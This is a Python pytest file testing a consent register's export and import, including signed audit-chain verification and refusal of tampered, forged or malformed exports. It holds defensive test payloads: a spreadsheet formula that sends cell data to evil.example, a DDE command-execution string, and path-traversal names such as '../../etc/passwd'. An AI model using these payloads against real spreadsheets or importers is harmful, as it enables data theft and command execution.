"""The whole register exported and imported into an empty instance loses nothing, and the
imported audit chain still verifies (on SQLite and PostgreSQL)."""

from __future__ import annotations

import json
import os
import secrets
import shutil
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import Result
from flask import Flask
from sqlalchemy import Engine, create_engine, select, text
from sqlalchemy.engine import make_url
from sqlalchemy.orm import Session

from consent import register
from portal import audit_head, migrate
from portal.app import create_app
from portal.audit import verify
from portal.database import get_database, make_engine, make_sessionmaker, utcnow
from tests.conftest import make_config

# The exporting partnership's signing key, and its public half given to the importer.
PEM, PUBLIC = audit_head.new_private_key_pem()


def _export(app: Flask, folder: Path) -> Result:
    """Export the register to a folder, its audit head signed with the partnership's key."""
    return app.test_cli_runner().invoke(args=["staff", "export-register", str(folder),
                                              "--key", PEM.decode()])


def _import(target: Flask, folder: Path, *, head: Path | None = None,
            public: str = PUBLIC) -> Result:
    """Import a folder against its signed head and the exporter's public key."""
    return target.test_cli_runner().invoke(args=[
        "staff", "import-register", str(folder), "--against",
        str(head or folder / register.HEAD_FILE), "--public-key", public])


def _dump(session: Session) -> dict[str, list[dict[str, Any]]]:
    return {name: list(register._rows(session, register._table(name)))
            for name in register.TABLES}


@pytest.fixture
def empty_target(backend: str, tmp_path: Path, request: pytest.FixtureRequest,
                 db_url: str) -> Iterator[tuple[Flask, Engine]]:
    """A second, empty, migrated database of the same engine."""
    drop = None
    if backend == "sqlite":
        template: Path = request.getfixturevalue("sqlite_template")
        path = tmp_path / "target.sqlite3"
        shutil.copyfile(template, path)
        url = f"sqlite:///{path}"
    else:
        name = f"register_target_{os.getpid()}_{secrets.token_hex(3)}"
        admin = create_engine(make_url(db_url), isolation_level="AUTOCOMMIT")
        with admin.connect() as conn:
            conn.execute(text(f'CREATE DATABASE "{name}"'))
        url = make_url(db_url).set(database=name).render_as_string(hide_password=False)
        engine = make_engine(url)
        migrate.upgrade(engine)
        engine.dispose()

        def drop() -> None:
            with admin.connect() as conn:
                conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
            admin.dispose()

    target = create_app(make_config(url, tmp_path / "target-instance"))
    yield target, make_engine(url)
    get_database(target).engine.dispose()
    if drop is not None:
        drop()


def test_round_trip_loses_nothing_and_the_chain_verifies(
        app: Flask, session: Session, demo: Any, tmp_path: Path, client: Any, api_key: Any,
        empty_target: tuple[Flask, Engine]) -> None:
    # Given a register with the demo partnership, a first contact's worth of audit and a
    # check answered (its decision must still match its entry once imported)
    key = api_key("fenshire-police", "consent:check")
    assert client.post("/api/v1/consent/check", headers={"Authorization": f"Bearer {key}"},
                       json={"subject": {"agency_ref": "FP-DEMO-0001"},
                             "recipient": "victim-care", "purpose": "victim-support-referral",
                             "categories": ["contact-details"]}).status_code == 200
    session.rollback()
    before = _dump(session)
    assert before["consent_events"] and before["audit_entries"] and before["check_decisions"]
    folder = tmp_path / "export"
    result = _export(app, folder)
    assert result.exit_code == 0, result.output
    # When it is imported into an empty instance
    target, engine = empty_target
    imported = _import(target, folder)
    assert imported.exit_code == 0, imported.output
    # Then every row of every register table is there, exactly
    with make_sessionmaker(engine)() as other:
        after = _dump(other)
        assert verify(other).ok
    session.rollback()
    exported = _dump(session)  # the export itself is audited, after the snapshot it took
    assert after["audit_entries"] == exported["audit_entries"][:len(after["audit_entries"])]
    for name in register.TABLES:
        if name != "audit_entries":
            assert after[name] == before[name], name
    assert len(after["audit_entries"]) == len(before["audit_entries"])
    engine.dispose()


def test_the_target_keeps_working_after_an_import(app: Flask, session: Session, demo: Any,
                                                  tmp_path: Path,
                                                  empty_target: tuple[Flask, Engine]) -> None:
    folder = tmp_path / "export"
    _export(app, folder)
    target, engine = empty_target
    _import(target, folder)
    # New rows and audit entries follow on from the imported ones
    key = target.test_cli_runner().invoke(args=["api-keys", "create", "--agency",
                                                "fenshire-police", "--scope", "consent:check",
                                                "--scope", "holdings:write"])
    assert key.exit_code == 0, key.output
    auth = {"Authorization": f"Bearer {key.output.strip().splitlines()[-1]}"}
    r = target.test_client().post("/api/v1/consent/check", headers=auth, json={
        "subject": {"agency_ref": "FP-DEMO-0001"}, "recipient": "victim-care",
        "purpose": "victim-support-referral", "categories": ["contact-details"]})
    assert r.get_json()["decision"] == "permit"
    # A new holding gets a fresh id after the imported ones (sequences moved on)
    r = target.test_client().put("/api/v1/holdings/FP-AFTER-IMPORT", headers=auth, json={
        "subject": {"given_name": "Jo", "family_name": "Bloggs"},
        "categories": ["identity"], "since": "2026-03-01"})
    assert r.status_code == 201, r.get_json()
    with make_sessionmaker(engine)() as other:
        assert verify(other).ok
    engine.dispose()


def test_import_refuses_a_register_that_is_not_empty(app: Flask, demo: Any,
                                                     tmp_path: Path) -> None:
    folder = tmp_path / "export"
    _export(app, folder)
    result = _import(app, folder)
    assert result.exit_code != 0 and "not empty" in result.output


def test_import_refuses_a_tampered_audit_log(app: Flask, demo: Any, tmp_path: Path,
                                             empty_target: tuple[Flask, Engine]) -> None:
    folder = tmp_path / "export"
    _export(app, folder)
    lines = (folder / "audit_entries.jsonl").read_text().splitlines()
    entry = json.loads(lines[0])
    entry["actor_id"] = "someone-else"
    lines[0] = json.dumps(entry)
    (folder / "audit_entries.jsonl").write_text("\n".join(lines) + "\n")
    target, engine = empty_target
    result = _import(target, folder)
    assert result.exit_code != 0 and "does not verify" in result.output
    with make_sessionmaker(engine)() as other:
        assert other.scalar(select(register._table("agencies").c.id)) is None
    engine.dispose()


def test_import_refuses_a_tampered_check_decision(app: Flask, demo: Any, tmp_path: Path,
                                                  client: Any, api_key: Any,
                                                  empty_target: tuple[Flask, Engine]) -> None:
    # Given an export holding a deny, turned into a permit in the file
    key = api_key("fenshire-police", "consent:check")
    answer = client.post("/api/v1/consent/check", headers={"Authorization": f"Bearer {key}"},
                         json={"subject": {"agency_ref": "FP-DEMO-0002"},
                               "recipient": "victim-care", "purpose": "victim-support-referral",
                               "categories": ["contact-details"]}).get_json()
    assert answer["decision"] == "deny"
    folder = tmp_path / "export"
    _export(app, folder)
    path = folder / "check_decisions.jsonl"
    rows = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
    assert len(rows) == 1
    rows[0].update(decision="permit", reason=None)
    path.write_text(json.dumps(rows[0]) + "\n")
    # When it is imported, then it is refused and nothing is kept
    target, engine = empty_target
    result = _import(target, folder)
    assert result.exit_code != 0
    assert "check decisions do not match their audit entries" in result.output
    assert answer["decision_id"] in result.output
    with make_sessionmaker(engine)() as other:
        assert other.scalar(select(register._table("agencies").c.id)) is None
    engine.dispose()


def test_import_refuses_a_forged_consent_event(app: Flask, demo: Any, tmp_path: Path,
                                              empty_target: tuple[Flask, Engine]) -> None:
    # Given an export with a "given" event added to the file, with no audit entry for it
    folder = tmp_path / "export"
    _export(app, folder)
    path = folder / "consent_events.jsonl"
    lines = path.read_text().splitlines()
    forged = json.loads(lines[0])
    forged.update(id=max(json.loads(line)["id"] for line in lines) + 1,
                  public_id="00000000-0000-4000-8000-00000000f0f0", event_type="given")
    path.write_text("\n".join([*lines, json.dumps(forged)]) + "\n")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["tables"]["consent_events"] += 1
    (folder / "manifest.json").write_text(json.dumps(manifest))
    # When it is imported, then it is refused, naming the event, and nothing is kept
    target, engine = empty_target
    result = _import(target, folder)
    assert result.exit_code != 0
    assert "consent events do not match their audit entries" in result.output
    assert "00000000-0000-4000-8000-00000000f0f0" in result.output
    with make_sessionmaker(engine)() as other:
        assert other.scalar(select(register._table("agencies").c.id)) is None
    engine.dispose()


def test_the_export_has_csv_and_a_fhir_consent_bundle(app: Flask, session: Session, demo: Any,
                                                      tmp_path: Path) -> None:
    folder = tmp_path / "export"
    _export(app, folder)
    bundle = json.loads((folder / "consents.fhir.json").read_text())
    assert bundle["resourceType"] == "Bundle" and bundle["type"] == "collection"
    consents = [e["resource"] for e in bundle["entry"]]
    assert consents and all(c["resourceType"] == "Consent" for c in consents)
    assert {c["decision"] for c in consents} == {"permit", "deny"}
    assert all(c["status"] in {"active", "inactive"} for c in consents)
    header = (folder / "subjects.csv").read_text().splitlines()[0]
    assert "safe_contact" in header and "given_name" in header
    manifest = json.loads((folder / "manifest.json").read_text())
    assert manifest["tables"]["consent_events"] == len(consents)


def test_a_partnership_admin_downloads_the_register(client: Any, session: Session,
                                                    demo: Any) -> None:
    import io
    import zipfile

    from portal.identity.models import Role
    from tests.identity_helpers import login, make_staff

    login(client, make_staff(session, "fenshire-police", Role.PARTNERSHIP_ADMIN))
    assert client.get("/staff/admin/register").status_code == 200
    r = client.get("/staff/admin/register/export.zip")
    assert r.status_code == 200 and r.mimetype == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(r.data)).namelist()
    assert "register/manifest.json" in names and "register/consents.fhir.json" in names
    assert "register/audit_entries.jsonl" in names and "register/subjects.csv" in names
    session.rollback()
    from portal.audit import AuditEntry

    assert session.scalar(select(AuditEntry.action).where(
        AuditEntry.action == "register.export")) == "register.export"


def test_round_trip_keeps_agreement_versions_and_retired_items(
        app: Flask, session: Session, demo: Any, tmp_path: Path,
        empty_target: tuple[Flask, Engine]) -> None:
    from consent import agreements
    from portal.database import utcnow
    from portal.reference.models import DataCategory, SharingAgreement
    from tests.conftest import STAFF

    # Given an agreement in use edited into a version 2, and a retired category
    old = session.scalar(select(SharingAgreement).where(
        SharingAgreement.reference == "FEN-ISA-001"))
    assert old is not None
    agreements.update_agreement(session, old.id, agreements.AgreementValues(
        title="Second wording", from_agency_id=old.from_agency_id,
        to_agency_id=old.to_agency_id, purpose_id=old.purpose_id, lawful_basis="consent",
        valid_from=old.valid_from, category_ids=tuple(c.id for c in old.categories)),
        actor=STAFF)
    session.add(DataCategory(slug="old-notes", name="Old notes", retired_at=utcnow()))
    session.commit()
    before = _dump(session)
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    # When it is imported into an empty instance
    target, engine = empty_target
    imported = _import(target, folder)
    assert imported.exit_code == 0, imported.output
    # Then both versions, their link, the notice coverage and the retirement are all there
    with make_sessionmaker(engine)() as other:
        after = _dump(other)
    for name in register.TABLES:
        if name != "audit_entries":
            assert after[name] == before[name], name
    versions = [r for r in after["sharing_agreements"] if r["reference"] == "FEN-ISA-001"]
    assert sorted(r["version"] for r in versions) == [1, 2]
    assert any(r["retired_at"] for r in after["data_categories"] if r["slug"] == "old-notes")
    bundle = json.loads((folder / "consents.fhir.json").read_text())
    for entry in bundle["entry"]:
        refs = [b["text"] for b in entry["resource"].get("regulatoryBasis", [])]
        assert len(refs) == len(set(refs))
    engine.dispose()


def test_the_register_csv_is_safe_in_a_spreadsheet(app: Flask, session: Session, demo: Any,
                                                   tmp_path: Path) -> None:
    import csv

    from tests.staff_helpers import person_of

    # Given people whose names were typed as spreadsheet formulas
    link = '=HYPERLINK("https://evil.example/?"&B2,"Open")'
    command = "+1+cmd|' /C calc'!A0"
    person = person_of(session, "fenshire-police", "FP-CSV-1", given=link,
                       family=command)
    # When the register is exported
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    # Then the CSV cells are text to a spreadsheet, and the JSON Lines keep the exact names
    with (folder / "subjects.csv").open(encoding="utf-8", newline="") as f:
        row = next(r for r in csv.DictReader(f) if r["id"] == str(person.id))
    assert row["given_name"] == "'" + link and row["family_name"] == "'" + command
    for f_name in (folder / "subjects.csv", folder / "holdings.csv"):
        cells = [c for r in csv.reader(f_name.open(encoding="utf-8")) for c in r]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    stored = [json.loads(line) for line in (folder / "subjects.jsonl").read_text().splitlines()]
    assert {"given_name": link, "family_name": command}.items() <= next(
        r for r in stored if r["id"] == str(person.id)).items()


# --- import trusts only a head signed by the exporter's key ----------------------------------

def _entries(folder: Path) -> list[dict[str, Any]]:
    path = folder / "audit_entries.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


def _rewrite_chain(folder: Path, *, manifest_too: bool) -> None:
    """Change one audit entry in the export and recompute every hash after it, as someone
    rewriting the export consistently would; with ``manifest_too``, its heads as well."""
    import datetime as dt
    import uuid

    from portal import audit

    rows = _entries(folder)
    target = next(r for r in rows if "holding" in r["action"])
    target["object_id"] = "REWRITTEN"
    prev: dict[int, str] = {}
    for row in sorted(rows, key=lambda r: (r["chain"], r["seq"])):
        at = dt.datetime.fromisoformat(row["at"])
        row["prev_hash"] = prev.get(row["chain"], audit.GENESIS)
        row["hash"] = audit.entry_hash(
            row["prev_hash"], row["chain"], row["seq"],
            at if at.tzinfo else at.replace(tzinfo=dt.UTC), row["actor_type"], row["actor_id"],
            row["agency_id"], row["action"],
            uuid.UUID(row["subject_id"]) if row["subject_id"] else None, row["object_type"],
            row["object_id"], row["details"])
        prev[row["chain"]] = row["hash"]
    (folder / "audit_entries.jsonl").write_text(
        "".join(json.dumps(r, sort_keys=True) + "\n" for r in rows))
    if manifest_too:
        manifest = json.loads((folder / "manifest.json").read_text())
        for chain, digest in prev.items():
            manifest["audit_heads"][str(chain)]["hash"] = digest
        (folder / "manifest.json").write_text(json.dumps(manifest))


def _nothing_imported(engine: Engine) -> None:
    with make_sessionmaker(engine)() as other:
        for name in ("agencies", "subjects", "audit_entries"):
            assert other.scalar(select(register._table(name).c.id)) is None, name


def test_a_consistently_rewritten_export_is_refused(app: Flask, demo: Any, tmp_path: Path,
                                                    empty_target: tuple[Flask, Engine]) -> None:
    # Given an export whose audit chain was rewritten with every hash recomputed, and its
    # manifest's heads changed to match
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    signed = tmp_path / "head.json"
    shutil.copyfile(folder / register.HEAD_FILE, signed)  # kept apart from the folder
    untouched_manifest = tmp_path / "export-manifest-kept"
    shutil.copytree(folder, untouched_manifest)
    _rewrite_chain(folder, manifest_too=True)
    target, engine = empty_target
    # When it is imported against the head signed at the export
    result = _import(target, folder, head=signed)
    # Then it is refused, and nothing is imported
    assert result.exit_code != 0
    assert "does not match the signed head" in result.output
    _nothing_imported(engine)
    # And a rewrite that left the manifest as it was is caught once the chain is walked
    _rewrite_chain(untouched_manifest, manifest_too=False)
    result = _import(target, untouched_manifest, head=signed)
    assert result.exit_code != 0
    assert "does not verify against the signed head" in result.output
    assert "was rewritten" in result.output
    _nothing_imported(engine)
    engine.dispose()


def test_a_rewrite_with_a_head_signed_by_another_key_is_refused(
        app: Flask, demo: Any, tmp_path: Path, empty_target: tuple[Flask, Engine]) -> None:
    # Given a rewritten export whose forger signed a new head with a key of their own
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    _rewrite_chain(folder, manifest_too=True)
    forger, _ = audit_head.new_private_key_pem()
    manifest = json.loads((folder / "manifest.json").read_text())
    forged = audit_head.sign_heads(
        {int(c): (h["seq"], h["hash"]) for c, h in manifest["audit_heads"].items()},
        audit_head.load_private_key(forger.decode()), now=utcnow())
    (folder / register.HEAD_FILE).write_text(json.dumps(forged))
    target, engine = empty_target
    # When it is imported with the exporter's real public key, then it is refused
    result = _import(target, folder)
    assert result.exit_code != 0 and "cannot be trusted" in result.output
    assert "not by the trusted key" in result.output
    # And with the forger's public key, its chain still does not match the genuine head
    genuine = tmp_path / "genuine"
    assert _export(app, genuine).exit_code == 0
    result = _import(target, folder, head=genuine / register.HEAD_FILE)
    assert result.exit_code != 0 and "signed head" in result.output
    _nothing_imported(engine)
    engine.dispose()


def test_an_import_needs_a_signed_head_and_a_public_key(
        app: Flask, demo: Any, tmp_path: Path, empty_target: tuple[Flask, Engine]) -> None:
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    target, engine = empty_target
    runner = target.test_cli_runner()
    # Without a head, or without a key, nothing is imported
    bare = runner.invoke(args=["staff", "import-register", str(folder)])
    assert bare.exit_code != 0 and "--against" in bare.output
    keyless = runner.invoke(args=["staff", "import-register", str(folder), "--against",
                                  str(folder / register.HEAD_FILE)])
    assert keyless.exit_code != 0 and "--public-key" in keyless.output
    # Nor with a head that is not signed at all
    unsigned = tmp_path / "unsigned.json"
    head = json.loads((folder / register.HEAD_FILE).read_text())
    head.pop("signature")
    unsigned.write_text(json.dumps(head))
    result = _import(target, folder, head=unsigned)
    assert result.exit_code != 0 and "signature is not valid" in result.output
    _nothing_imported(engine)
    # A head signed before later entries were exported does not cover them: refused
    earlier = tmp_path / "earlier.json"
    shutil.copyfile(folder / register.HEAD_FILE, earlier)
    later = tmp_path / "later"
    assert _export(app, later).exit_code == 0  # the first export's own entry follows the head
    result = _import(target, later, head=earlier)
    assert result.exit_code != 0 and "does not match the signed head" in result.output
    _nothing_imported(engine)
    engine.dispose()


def test_names_that_lead_out_of_the_folder_are_refused(
        app: Flask, demo: Any, tmp_path: Path, empty_target: tuple[Flask, Engine]) -> None:
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    target, engine = empty_target
    manifest_text = (folder / "manifest.json").read_text()
    # Given a manifest naming a table file outside the folder
    manifest = json.loads(manifest_text)
    manifest["tables"]["../../outside/subjects"] = manifest["tables"].pop("subjects")
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = _import(target, folder)
    assert result.exit_code != 0 and "../../outside/subjects" in result.output
    assert "exactly the register's tables" in result.output
    (folder / "manifest.json").write_text(manifest_text)
    # Given a table file that is a link to a file elsewhere
    outside = tmp_path / "outside"
    outside.mkdir()
    (folder / "subjects.jsonl").rename(outside / "subjects.jsonl")
    (folder / "subjects.jsonl").symlink_to(outside / "subjects.jsonl")
    result = _import(target, folder)
    assert result.exit_code != 0 and "subjects.jsonl" in result.output
    assert "not a plain file" in result.output
    # Then neither imported anything
    _nothing_imported(engine)
    engine.dispose()


def test_malformed_rows_are_refused_and_nothing_is_imported(
        app: Flask, demo: Any, tmp_path: Path, empty_target: tuple[Flask, Engine]) -> None:
    folder = tmp_path / "export"
    assert _export(app, folder).exit_code == 0
    target, engine = empty_target
    path = folder / "subjects.jsonl"
    original = path.read_text()
    first, *rest = original.splitlines()
    row = json.loads(first)
    cases = {
        "not JSON": ["{not json", "subjects.jsonl line 1 is not JSON"],
        "a list": ["[1, 2, 3]", "must be a JSON object"],
        "an unknown column": [json.dumps({**row, "is_admin": True}), "no column 'is_admin'"],
        "a missing column": [json.dumps({k: v for k, v in row.items() if k != "given_name"}),
                             "lacks given_name"],
        "a bad identifier": [json.dumps({**row, "id": "../../etc/passwd"}),
                             "id is not a valid value"],
        "a bad date": [json.dumps({**row, "created_at": "yesterday"}),
                       "created_at is not a valid value"],
        "a number for text": [json.dumps({**row, "given_name": 7}),
                              "given_name is not a valid value"],
        "a null where one is not allowed": [json.dumps({**row, "created_at": None}),
                                            "created_at must not be null"],
    }
    for name, (line, message) in cases.items():
        # Given the export with one malformed row
        path.write_text("\n".join([line, *rest]) + "\n")
        # When it is imported, then it is refused naming the file and line
        result = _import(target, folder)
        assert result.exit_code != 0, name
        assert message in result.output, (name, result.output)
    # A duplicated row (the count in the manifest matching) cannot be stored either
    path.write_text("\n".join([first, first, *rest]) + "\n")
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["tables"]["subjects"] += 1
    (folder / "manifest.json").write_text(json.dumps(manifest))
    result = _import(target, folder)
    assert result.exit_code != 0 and "cannot be stored" in result.output
    _nothing_imported(engine)
    engine.dispose()

